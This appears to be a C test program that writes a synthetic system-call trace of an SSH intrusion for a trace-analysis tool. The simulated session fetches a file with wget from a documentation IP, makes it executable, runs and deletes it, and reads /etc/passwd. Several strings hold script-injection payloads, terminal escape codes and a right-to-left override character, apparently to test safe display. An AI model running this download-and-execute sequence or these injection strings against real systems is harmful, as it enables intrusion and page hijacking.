// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * make-intrusion PATH CALLS [no-terminal]: a whole trace in which somebody comes by the network, runs programs with
 * hostile names, fetches a file, runs it and deletes it; and CALLS more calls of a process that only reads and writes.
 */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "build.h"
#include "trace/file.h"

#define EVIL    "evil\x1b[31m\n\xff\\" SCRIPT
#define FETCHED "#!/bin/sh <b>\n"
#define SCRIPT  "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"

enum {
    NR_READ = 0,
    NR_WRITE = 1,
    NR_CLOSE = 3,
    NR_PWRITE = 18,
    NR_CONNECT = 42,
    NR_ACCEPT = 43,
    NR_SENDTO = 44,
    NR_RECVFROM = 45,
    NR_CLONE = 56,
    NR_EXECVE = 59,
    NR_UNLINK = 87,
    NR_CHMOD = 90
};
enum { NR_EXIT_GROUP = 231, NR_OPENAT = 257 };

static struct build b;
static struct trace_writer *writer;
static int status;
static guint written;

/* What is made is written at once: a long trace is not held in memory. */
static void flush(void)
{
    for (guint i = 0; i < b.records->len; i++)
        status |= trace__write(writer, b.records->pdata[i], NULL);
    written += b.records->len;
    g_ptr_array_set_size(b.records, 0);
}

static void string(uint64_t addr, const char *text, uint8_t arg, uint8_t level)
{
    uint32_t n = (uint32_t)strlen(text) + 1;

    build__snippet(&b, QBK_SNIP_MEM, addr, text, n, n, QBK_SNIP_STRING, arg, level);
}

static void run(uint64_t thread, const char *path, const char *const *argv, uint64_t result)
{
    uint64_t pointers[16] = {0}, call = build__enter(&b, thread, NR_EXECVE, 3, (uint64_t[]){0x1000, 0x2000, 0x3000});
    unsigned n = 0;

    string(0x1000, path, 0, 0);
    for (; argv[n]; n++)
        pointers[n] = 0x4000 + 0x1000 * (uint64_t)n;
    build__snippet(&b, QBK_SNIP_MEM, 0x2000, pointers, (n + 1) * 8, (n + 1) * 8, 0, 1, 0);
    for (unsigned i = 0; i < n; i++)
        string(pointers[i], argv[i], 1, 1);
    if (result == 0)
        build__name(&b, thread, QBK_NAME_EXE, path);
    build__return(&b, thread, call, QBK_END_RETURNED, result);
}

static void address(uint64_t addr, uint32_t ip, uint16_t port, uint8_t arg)
{
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(ip)};

    build__snippet(&b, QBK_SNIP_MEM, addr, &in, sizeof(in), sizeof(in), 0, arg, 0);
}

static void path_call(uint64_t thread, uint32_t nr, const char *path, unsigned arg, uint64_t rest, uint64_t result)
{
    uint64_t args[4] = {[2] = rest, [3] = 0644}, call;

    args[0] = arg ? (uint64_t)-100 & 0xffffffff : 0x1000;
    args[1] = arg ? 0x1000 : rest;
    call = build__enter(&b, thread, nr, arg ? 4 : 2, args);
    string(0x1000, path, (uint8_t)arg, 0);
    build__snippet(&b, QBK_SNIP_CWD, 0, "/root", 5, 5, 0, 0xff, 0);
    build__return(&b, thread, call, QBK_END_RETURNED, result);
}

static void comes(void)
{
    uint32_t len = sizeof(struct sockaddr_in);
    uint64_t call = build__enter(&b, 1, NR_ACCEPT, 3, (uint64_t[]){3, 0x7000, 0x8000});

    struct qbk_object *socket = build__socket(&b, 1, 4, 77, 9);

    memcpy(socket->peer_address, (const uint8_t[]){203, 0, 113, 9}, 4);
    socket->peer_port = 50022;
    build__return(&b, 1, call, QBK_END_RETURNED, 4);
    address(0x7000, 0xcb007109 /* 203.0.113.9 */, 50022, 1);
    build__snippet(&b, QBK_SNIP_MEM, 0x8000, &len, 4, 4, 0, 2, 0);
    call = build__enter(&b, 1, NR_CLONE, 5, (uint64_t[]){17, 0, 0, 0, 0});
    build__return(&b, 1, call, QBK_END_RETURNED, 101);
    build__thread(&b, 2, 101, "sshd")->parent_thread = 1;
    ((struct qbk_thread *)build__last(&b))->ppid = 100;
}

static void contacts(uint64_t thread, uint64_t result)
{
    uint64_t call = build__enter(&b, thread, NR_CONNECT, 3, (uint64_t[]){5, 0x7000, 16});

    address(0x7000, 0xc6336407 /* 198.51.100.7 */, 80, 1);
    if (result == 0) {
        struct qbk_object *socket = build__socket(&b, thread, 5, 78, 7);

        memcpy(socket->peer_address, (const uint8_t[]){198, 51, 100, 7}, 4);
        socket->peer_port = 80;
    }
    build__return(&b, thread, call, QBK_END_RETURNED, result);
}

static void moved(uint64_t thread, uint32_t nr, uint64_t fd, const char *bytes)
{
    uint64_t n = strlen(bytes), call = build__enter(&b, thread, nr, 4, (uint64_t[]){fd, 0x1000, n, 0});
    bool reads = nr == NR_RECVFROM || nr == NR_READ;

    if (!reads)
        build__snippet(&b, QBK_SNIP_MEM, 0x1000, bytes, (uint32_t)n, n, 0, 1, 0);
    build__return(&b, thread, call, QBK_END_RETURNED, n);
    if (reads)
        build__snippet(&b, QBK_SNIP_MEM, 0x1000, bytes, (uint32_t)n, n, 0, 1, 0);
}

static void hostile_file(uint64_t thread)
{
    static const char path[] = "/root/" EVIL;
    struct qbk_object *file = build__object(&b, thread, 6, 501);

    file->file = 0xffff888000004000u;
    file->mode = 0100644;
    path_call(thread, NR_OPENAT, EVIL, 1, 01101 /* for writing, made, emptied */, 6);
    build__snippet(&b, QBK_SNIP_FD, 6, path, sizeof(path) - 1, sizeof(path) - 1, 0, 0xff, 0);
}

/* What was asked for comes, and becomes a file. */
static void fetches(uint64_t thread)
{
    struct qbk_object *file;

    moved(thread, NR_SENDTO, 5, "GET /a%20b HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: Wget\r\n\r\n");
    moved(thread, NR_RECVFROM, 5, "HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\n" FETCHED);
    file = build__object(&b, thread, 8, 500);
    file->file = 0xffff888000003000u;
    file->mode = 0100644;
    path_call(thread, NR_OPENAT, "dropped", 1, 01101 /* for writing, made, emptied */, 8);
    build__snippet(&b, QBK_SNIP_FD, 8, "/root/dropped", 13, 13, 0, 0xff, 0);
    moved(thread, NR_PWRITE, 8, FETCHED);
    build__return(&b, thread, build__enter(&b, thread, NR_CLOSE, 1, (uint64_t[]){8}), QBK_END_RETURNED, 0);
}

/* What sshd gives to and takes from the terminal that it made: what is typed, and what is seen. */
static void terminal(void)
{
    static const char typed[] = "ls <b>\r";
    static const char seen[] =
        "\x1b[1mdropped\x1b[0m \xc3\xa9\r\n</script><img src=x onerror=document.title='owned'>\r\n";
    struct qbk_object *tty = build__object(&b, 2, 9, 88);
    uint64_t call;

    tty->mode = 020666;
    tty->kind = QBK_OBJECT_TTY;
    tty->tty_side = QBK_TTY_MASTER;
    tty->rows = 25;
    tty->columns = 90;
    tty->tty = 0xffff888000001000u;
    tty->tty_other = 0xffff888000002000u;
    call = build__enter(&b, 2, NR_WRITE, 3, (uint64_t[]){9, 0x1000, sizeof(typed) - 1});
    build__snippet(&b, QBK_SNIP_MEM, 0x1000, typed, sizeof(typed) - 1, sizeof(typed) - 1, 0, 1, 0);
    build__return(&b, 2, call, QBK_END_RETURNED, sizeof(typed) - 1);
    b.time_ns += 300000000;
    call = build__enter(&b, 2, NR_READ, 3, (uint64_t[]){9, 0x1000, 4096});
    build__return(&b, 2, call, QBK_END_RETURNED, sizeof(seen) - 1);
    build__snippet(&b, QBK_SNIP_MEM, 0x1000, seen, sizeof(seen) - 1, sizeof(seen) - 1, 0, 1, 0);
}

/* What the shell reads from its side of that terminal, which edits lines by itself. */
static void typed(void)
{
    static const char line[] = "whoami </script>\xe2\x80\xae\n";
    struct qbk_object *tty = build__object(&b, 2, 0, 89);
    uint64_t call;

    tty->mode = 020620;
    tty->kind = QBK_OBJECT_TTY;
    tty->tty_side = QBK_TTY_SLAVE;
    tty->tty = 0xffff888000002000u;
    tty->tty_other = 0xffff888000001000u;
    tty->rows = 25;
    tty->columns = 90;
    tty->lflag = QBK_TTY_ICANON | QBK_TTY_ECHO;
    call = build__enter(&b, 2, NR_READ, 3, (uint64_t[]){0, 0x1000, 4096});
    build__return(&b, 2, call, QBK_END_RETURNED, sizeof(line) - 1);
    build__snippet(&b, QBK_SNIP_MEM, 0x1000, line, sizeof(line) - 1, sizeof(line) - 1, 0, 1, 0);
}

/* The daemon reads the client's first line, a byte first, as OpenSSH's does; what follows is encrypted. */
static void speaks(void)
{
    struct qbk_object *socket = build__socket(&b, 2, 4, 77, 9);

    memcpy(socket->peer_address, (const uint8_t[]){203, 0, 113, 9}, 4);
    socket->peer_port = 50022;
    socket->why = QBK_OBJECT_USED;
    moved(2, NR_READ, 4, "S");
    moved(2, NR_READ, 4, "SH-2.0-Hostile\x1b[2J_1.0\r\n\x01\x02");
    moved(2, NR_READ, 4, "\x03\n");
}

static void works(bool with_terminal)
{
    uint64_t call;

    speaks();
    if (with_terminal)
        terminal();
    run(2, "/bin/sh", (const char *const[]){"-sh", NULL}, 0);
    build__thread(&b, 2, 101, "sh")->why = QBK_THREAD_EXEC;
    ((struct qbk_thread *)build__last(&b))->ppid = 100;
    if (with_terminal)
        typed();
    run(2, "/usr/bin/wget", (const char *const[]){"wget", "http://198.51.100.7/a b", SCRIPT, NULL}, (uint64_t)-2);
    run(2, "/bin/wget", (const char *const[]){"wget", "http://198.51.100.7/a b", SCRIPT, NULL}, 0);
    contacts(2, (uint64_t)-115);
    contacts(2, 0);
    hostile_file(2);
    fetches(2);
    path_call(2, NR_OPENAT, "/etc/passwd", 1, 0, 7);
    path_call(2, NR_CHMOD, "/root/dropped", 0, 0755, 0);
    run(2, "/root/dropped", (const char *const[]){"./dropped", "it's", "\xe2\x80\xae", "", NULL}, 0);
    path_call(2, NR_UNLINK, "./dropped", 0, 0, 0); /* as it stood in /root */
    path_call(2, NR_UNLINK, "/etc/shadow", 0, 0, (uint64_t)-13);
    /* another process of the session finds no program of the name in two places */
    build__thread(&b, 4, 102, "sh")->parent_thread = 2;
    run(4, "/bin/nonsense", (const char *const[]){"nonsense", NULL}, (uint64_t)-2);
    run(4, "/usr/bin/nonsense", (const char *const[]){"nonsense", NULL}, (uint64_t)-2);
    build__thread_exit(&b, 4, 127 << 8);
    build__signal(&b, 2, 2, 0, QBK_SIGNAL_HANDLER);
    build__text(&b, QBK_LOG, "a module's line");
    call = build__enter(&b, 2, NR_EXIT_GROUP, 1, (uint64_t[]){3});
    build__return(&b, 2, call, QBK_END_NORETURN, 0);
    build__thread_exit(&b, 2, 3 << 8);
}

static void bulk(unsigned long calls)
{
    char data[64];

    build__thread(&b, 3, 200, "busy");
    memset(data, 'x', sizeof(data));
    for (unsigned long n = 0; n < calls; n++) {
        uint64_t call = build__enter(&b, 3, NR_WRITE, 3, (uint64_t[]){1, 0x1000, sizeof(data)});
        build__snippet(&b, QBK_SNIP_MEM, 0x1000, data, sizeof(data), sizeof(data), 0, 1, 0);
        build__return(&b, 3, call, QBK_END_RETURNED, sizeof(data));
        flush();
    }
}

int main(int argc, char **argv)
{
    writer = argc == 3 || argc == 4 ? trace__create(argv[1], NULL, NULL) : NULL;
    if (!writer)
        return 2;
    build__init(&b);
    build__meta(&b, "qebek", "test", "calls", argv[2], "string_limit", "4096", "fd_names", "yes", "objects", "yes",
                NULL);
    build__guest(&b, "os", "linux", "release", "6.1 <b>", "how", "test", NULL);
    build__thread(&b, 1, 100, "sshd");
    comes();
    works(argc == 3);
    bulk(strtoul(argv[2], NULL, 10));
    build__summary(&b);
    flush();
    status |= trace__finish(writer, NULL);
    build__free(&b);
    return status || written == 0 ? 1 : 0;
}
